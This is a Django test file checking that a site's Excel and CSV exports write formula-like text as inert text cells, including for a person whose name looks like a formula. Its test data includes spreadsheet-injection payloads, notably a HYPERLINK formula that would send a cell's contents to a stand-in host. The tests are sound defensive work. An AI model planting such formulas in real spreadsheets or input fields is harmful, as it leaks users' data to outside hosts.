"""Exports never write a live formula: text that starts with =, +, -, @, tab or CR is written as
a text cell (with Excel's quote prefix), in every workbook the site writes."""

import io
import re
import zipfile

import pytest
from django.urls import reverse

from bastion.core.excel import Column, build_workbook, inert_cell
from bastion.core.excel.reader import read_first_sheet
from bastion.orgs.tests.factories import PersonFactory

HYPERLINK = '=HYPERLINK("http://x?"&C2)'
DANGEROUS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def sheet_xml(data: bytes, name="xl/worksheets/sheet1.xml") -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(name).decode()


def test_build_workbook_writes_formula_like_text_as_text():
    columns = [Column("name", "=名称")]  # a header from the database is text as well
    data = build_workbook(title="表", columns=columns, rows=[[text] for text in DANGEROUS])
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    sheet = read_first_sheet(zipfile.ZipFile(io.BytesIO(data)))
    assert [values[0] for _n, values in sheet.rows] == ["=名称", *DANGEROUS]
    assert not sheet.formulas


def test_plain_values_are_left_alone():
    assert inert_cell(None, "王明") == "王明" and inert_cell(None, -3) == -3


@pytest.mark.django_db
def test_a_person_named_like_a_formula_exports_as_text(client, personas, tree):
    PersonFactory(name=HYPERLINK, organization=tree.station_a1)
    client.force_login(personas.company)
    response = client.get(reverse("orgs:person_export"))
    assert response.status_code == 200
    data = b"".join(response) if response.streaming else response.content
    xml = sheet_xml(data)
    assert not re.search(r"<f[ >]", xml)
    cell = re.search(r'<c r="(A\d+)"[^>]*t="inlineStr"[^>]*><is><t>=HYPERLINK', xml)
    assert cell, "the name is a text cell"
    sheet = read_first_sheet(zipfile.ZipFile(io.BytesIO(data)))
    assert HYPERLINK in [values[0] for _n, values in sheet.rows]


def test_every_workbook_the_site_writes_goes_through_the_inert_helper():
    """A module that builds a workbook itself (not through build_workbook) must pass its cells
    through inert_cell: a new export path cannot forget it silently."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = []
    for path in root.rglob("*.py"):
        if any(part.startswith("tests") for part in path.parts) or path.name == "writer.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"(?<!\w)Workbook\(|csv\.writer|DictWriter", text):
            writers.append(path.relative_to(root))
            assert "inert_cell" in text or "inert_row" in text, f"{path} writes raw cells"
    assert writers, "the bulletin workbook at least is written outside build_workbook"
